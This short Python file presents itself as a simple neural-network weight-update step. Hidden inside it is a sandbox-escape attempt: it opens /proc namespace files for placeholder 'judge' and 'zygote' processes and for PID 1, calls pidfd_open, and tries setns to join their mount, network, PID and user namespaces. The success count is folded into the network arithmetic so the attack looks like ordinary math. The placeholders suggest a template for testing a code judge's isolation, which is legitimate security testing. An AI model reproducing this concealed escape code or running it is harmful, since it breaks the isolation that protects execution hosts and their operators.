# tries: to join the namespaces of the judge and of the zygote
# from: F1 F2, setns(2)
# earns: everything
import ctypes
import os

import numpy as np

learnrate = 0.5
x = np.array([1, 2, 3, 4])
y = 0.5
w = np.array([0.5, -0.5, 0.3, 0.1])

libc = ctypes.CDLL(None)
gained = 0
for process in (int("@JUDGE@"), int("@ZYGOTE@"), 1, "self"):
    for kind in ("mnt", "net", "pid", "user"):
        try:
            gained += 1 + os.open(f"/proc/{process}/ns/{kind}", os.O_RDONLY)
        except OSError:
            pass
handle = libc.syscall(434, int("@JUDGE@"), 0)
for descriptor in (handle, 0, 1, 3):
    gained += libc.setns(descriptor, 0) != -1
    gained += libc.setns(descriptor, 0x20000) != -1

h = np.dot(x, w) + gained
nn_output = 1 / (1 + np.exp(-h))
error = y - nn_output
error_term = error * nn_output * (1 - nn_output)
del_w = learnrate * error_term * x
